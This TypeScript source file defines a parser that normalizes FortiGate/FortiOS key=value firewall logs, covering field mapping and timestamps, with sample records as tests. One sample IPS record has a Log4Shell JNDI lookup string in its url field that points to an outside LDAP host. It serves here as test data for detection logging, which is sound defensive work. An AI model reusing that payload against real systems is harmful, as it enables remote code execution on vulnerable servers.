// FortiGate / FortiOS logs (Fortinet): one record per line, key=value pairs, with or without a syslog
// <PRI> or header before them (disk logs have none; syslog and FortiAnalyzer forwards add one).
// Spec: https://docs.fortinet.com/document/fortigate/7.4.0/fortios-log-message-reference
// Example: <189>date=2019-05-10 time=11:37:47 devname="FGT-A" logid="0000000013" type="traffic" subtype="forward" level="notice" eventtime=1557513467369913239 tz="-0700" srcip=10.1.100.11 srcport=58012 dstip=23.59.154.35 dstport=80 action="close" policyid=1 sentbyte=1188 rcvdbyte=1224
// Roles: srcip/srcport -> init.host.*, dstip/dstport -> target.host.*; traffic sentbyte (client to server)
// -> session.in.byte, rcvdbyte -> session.out.byte (as the kv and Squid parsers count them); user/srcuser ->
// init.usr.name, dstuser -> target.usr.name, event logs' user (admin logins) -> target.usr.name with the
// ui's address as the initiator; action (accept, deny, close, timeout, login...) -> action + outcome,
// status= (success/failed) decides the outcome of event logs; policyid -> rule.id, attack/virus -> alarm.name.
// Time: eventtime (epoch s, ms, us or ns: UTC), else date= time= with tz= ("-0700", "+02:00"), else the
// syslog header. Quirks: values may be quoted or not depending on firmware; tz is absent before FortiOS 6.2.
import { err, ok } from '../../core/result.ts';
import { parseIsoTime, zoneToMinutes } from '../../core/time.ts';
import type { EventFields } from '../../core/schema.ts';
import type { TextParser } from '../types.ts';
import { parseKvPairs } from '../extract/kvPairs.ts';
import { outcomeOf, readDevicePrefix, setEndpoint } from '../extract/devicePrefix.ts';
import { shareOfLines } from '../sniff.ts';

// where the pairs start: FortiOS always writes date= first (disk, syslog) or logver=/itime= (FortiAnalyzer)
const START = /(?:^|[\s>])(?:date|logver|itime|eventtime)=/;
const MARK = /\blogid="?\d{10}"?/;
const TYPES: Readonly<Record<string, string>> = Object.assign(Object.create(null) as Record<string, string>, {
  traffic: 'FW', utm: 'IDS', event: 'SYS', anomaly: 'IDS', virus: 'AV', webfilter: 'WEB', ips: 'IDS', dlp: 'IDS', app: 'FW',
});
const UTM_TYPES: Readonly<Record<string, string>> = Object.assign(Object.create(null) as Record<string, string>, {
  virus: 'AV', webfilter: 'WEB', ips: 'IDS', anomaly: 'IDS', 'app-ctrl': 'FW', dns: 'DNS', waf: 'WAF', dlp: 'IDS', emailfilter: 'MX', ssl: 'FW',
});

/** eventtime in s, ms, us or ns -> epoch ms */
function eventTime(v: string): number | undefined {
  if (!/^\d{9,19}$/.test(v)) return undefined;
  if (v.length <= 10) return Number(v) * 1000;
  return Number(v.slice(0, 13));
}

function times(ev: EventFields, p: Map<string, string>, ctx: Parameters<TextParser['parse']>[1]): void {
  const et = p.get('eventtime');
  const ms = et === undefined ? undefined : eventTime(et);
  if (ms !== undefined) {
    Object.assign(ev, { ts: ms, 'ts.raw': et, 'ts.guess': '' });
    return;
  }
  const date = p.get('date'), time = p.get('time');
  if (date === undefined || time === undefined) return;
  const tz = p.get('tz');
  const zone = tz !== undefined && zoneToMinutes(tz.replace(/^([+-]\d\d)(\d\d)$/, '$1:$2')) !== undefined ? tz : '';
  const raw = `${date} ${time}${zone === '' ? '' : ` ${zone}`}`;
  const t = parseIsoTime(`${date} ${time}${zone}`, ctx.time);
  if (t !== undefined) Object.assign(ev, { ts: t.ts, 'ts.raw': raw, 'ts.guess': t.guess });
}

export const fortigate: TextParser = {
  kind: 'text',
  id: 'fortigate',
  title: 'FortiGate / FortiOS key=value logs',
  version: '1',
  url: 'https://docs.fortinet.com/document/fortigate/7.4.0/fortios-log-message-reference',
  framing: 'line',
  patterns: ['traffic', 'utm', 'event', 'prefix'],

  sniff(head) {
    // above kv (0.93): a FortiOS record is a kv record with a logid and a date
    return shareOfLines(head, (l) => START.test(l) && MARK.test(l)) * 0.96;
  },

  parse(line, ctx) {
    const s = START.exec(line);
    if (s === null || !MARK.test(line)) return err('not a FortiOS record (no date=/logid= pairs)');
    const start = s.index + (/^[\s>]/.test(s[0]) ? 1 : 0);
    const ev: EventFields = { type: 'SYS', vendor: 'Fortinet', 'app.name': 'FortiOS' };
    if (start > 0) {
      ctx.hit?.('prefix');
      readDevicePrefix(line.slice(0, start), ctx, ev);
    }
    const pairs = parseKvPairs(line, start);
    const p = new Map<string, string>();
    for (const { key, value } of pairs) {
      if (!p.has(key)) p.set(key, value);
      ev[`data.${key}`] = value;
    }
    times(ev, p, ctx);
    const type = p.get('type') ?? '', sub = p.get('subtype') ?? '';
    ev.type = (type === 'utm' ? UTM_TYPES[sub] : TYPES[type]) ?? 'SYS';
    const get = (k: string): string | undefined => {
      const v = p.get(k);
      return v === undefined || v === '' || v === 'N/A' ? undefined : v;
    };
    if (get('devname') !== undefined) ev['obs.host.name'] = get('devname') as string;
    if (get('devid') !== undefined) ev['data.device_id'] = get('devid') as string;
    if (get('level') !== undefined) ev['alarm.sev'] = get('level') as string;
    if (get('logid') !== undefined) ev['alarm.id'] = get('logid') as string;
    setEndpoint(ev, 'init', get('srcip'), get('srcport'));
    setEndpoint(ev, 'target', get('dstip'), get('dstport'));
    if (get('srcname') !== undefined && ev['init.host.name'] === undefined) ev['init.host.name'] = get('srcname') as string;
    if (get('hostname') !== undefined) ev['target.host.name'] = get('hostname') as string;
    if (get('srcmac') !== undefined) ev['init.host.mac'] = get('srcmac') as string;
    if (get('dstmac') !== undefined) ev['target.host.mac'] = get('dstmac') as string;
    if (get('policyid') !== undefined) ev['rule.id'] = get('policyid') as string;
    if (get('policyname') !== undefined) ev['rule.name'] = get('policyname') as string;
    if (get('sessionid') !== undefined) ev['session.id'] = get('sessionid') as string;
    if (get('service') !== undefined) ev['data.service'] = get('service') as string;
    const num = (k: string, to: string): void => {
      const v = get(k);
      if (v !== undefined && /^\d+$/.test(v)) ev[to] = Number(v);
    };
    num('sentbyte', 'session.in.byte');
    num('rcvdbyte', 'session.out.byte');
    num('duration', 'session.duration');
    const url = get('url');
    if (url !== undefined) ev['target.uri.full'] = url;
    const threat = get('attack') ?? get('virus') ?? get('catdesc');
    if (threat !== undefined) ev['alarm.name'] = threat;
    if (get('attackid') !== undefined || get('virusid') !== undefined) ev['rule.id'] = (get('attackid') ?? get('virusid')) as string;
    const action = get('action');
    if (action !== undefined) {
      ev.action = action;
      const o = outcomeOf(action);
      if (o !== undefined) ev.outcome = o;
    }
    const status = get('status');
    if (type === 'event') {
      ctx.hit?.('event');
      // admin and VPN logins: the account logged into, and the address it came from ("https(10.1.1.5)")
      const user = get('user') ?? get('xauthuser');
      if (user !== undefined) ev['target.usr.name'] = user;
      const ui = /\(([0-9a-fA-F.:]+)\)/.exec(get('ui') ?? '');
      if (ui !== null && ev['init.host.ip'] === undefined) setEndpoint(ev, 'init', ui[1]);
      if (get('remip') !== undefined && ev['init.host.ip'] === undefined) setEndpoint(ev, 'init', get('remip'));
      if (/login|logon|auth/i.test(`${action ?? ''} ${get('logdesc') ?? ''}`)) ev.type = 'AUTH';
      if (sub === 'vpn') ev.type = 'VPN';
    } else {
      ctx.hit?.(type === 'utm' ? 'utm' : 'traffic');
      const user = get('user') ?? get('srcuser') ?? get('unauthuser');
      if (user !== undefined) ev['init.usr.name'] = user;
      if (get('dstuser') !== undefined) ev['target.usr.name'] = get('dstuser') as string;
    }
    if (status !== undefined) {
      const o = /^(?:success|succeeded|ok)$/i.test(status) ? 'success' : /^fail(?:ed|ure)?$/i.test(status) ? 'failure' : undefined;
      if (o !== undefined) ev.outcome = o;
    }
    ev.message = get('msg') ?? get('logdesc') ?? `${type}${sub === '' ? '' : `/${sub}`} ${action ?? ''}`.trim();
    return ok(ev);
  },

  samples: [
    {
      input: '<189>date=2024-05-10 time=11:37:47 devname="FGT-EDGE" devid="FG100E0000000001" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" eventtime=1715341067369913239 tz="-0700" srcip=10.1.100.11 srcport=58012 srcintf="port12" dstip=93.184.216.34 dstport=443 dstintf="wan1" sessionid=105048 proto=6 action="close" policyid=7 policytype="policy" service="HTTPS" duration=116 sentbyte=1188 rcvdbyte=1224 sentpkt=17 rcvdpkt=16',
      expect: {
        ts: 1715341067369, 'ts.guess': '', type: 'FW', 'obs.host.name': 'FGT-EDGE', 'alarm.id': '0000000013', 'alarm.sev': 'notice',
        'init.host.ip': '10.1.100.11', 'init.host.port': 58012, 'target.host.ip': '93.184.216.34', 'target.host.port': 443,
        action: 'close', outcome: 'success', 'rule.id': '7', 'session.in.byte': 1188, 'session.out.byte': 1224, 'session.id': '105048', 'data.syslog.facility': 'local7',
      },
    },
    {
      input: 'Jan 18 11:07:53 10.0.0.1 date=2024-01-18 time=11:07:53 devname=FG60F logid="0000000011" type="traffic" subtype="forward" level="warning" tz="+0100" srcip=203.0.113.50 srcport=40211 dstip=10.0.0.25 dstport=3389 action="deny" policyid=0 proto=6 service="RDP"',
      expect: { ts: Date.UTC(2024, 0, 18, 10, 7, 53), 'ts.guess': '', 'ts.raw': '2024-01-18 11:07:53 +0100', 'obs.host.ip': '10.0.0.1', 'obs.host.name': 'FG60F', action: 'deny', outcome: 'failure', 'target.host.port': 3389 },
    },
    {
      input: 'date=2024-03-02 time=08:14:01 devname="FGT-EDGE" logid="0100032002" type="event" subtype="system" level="alert" vd="root" logdesc="Admin login failed" sn="0" user="admin" ui="https(198.51.100.7)" method="https" srcip=198.51.100.7 dstip=10.0.0.1 action="login" status="failed" reason="passwd_invalid" msg="Administrator admin login failed from https(198.51.100.7) because of invalid password"',
      expect: { ts: Date.UTC(2024, 2, 2, 8, 14, 1), 'ts.guess': 'zone', type: 'AUTH', 'target.usr.name': 'admin', 'init.host.ip': '198.51.100.7', outcome: 'failure', action: 'login', message: 'Administrator admin login failed from https(198.51.100.7) because of invalid password' },
    },
    {
      input: 'date=2024-03-02 time=09:28:07 logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" eventtime=1709371687 severity="critical" srcip=203.0.113.55 dstip=10.1.100.11 srcport=44362 dstport=80 sessionid=901 action="dropped" proto=6 service="HTTP" policyid=3 attack="Apache.Log4j.Error.Log.Remote.Code.Execution" attackid=51006 hostname="www.example.com" url="/?x=${jndi:ldap://203.0.113.55/a}" user="bob" msg="web_server: Apache.Log4j.Error.Log.Remote.Code.Execution,"',
      expect: { ts: 1709371687000, type: 'IDS', 'alarm.name': 'Apache.Log4j.Error.Log.Remote.Code.Execution', 'rule.id': '51006', outcome: 'failure', 'target.host.name': 'www.example.com', 'target.uri.full': '/?x=${jndi:ldap://203.0.113.55/a}', 'init.usr.name': 'bob' },
    },
  ],
};
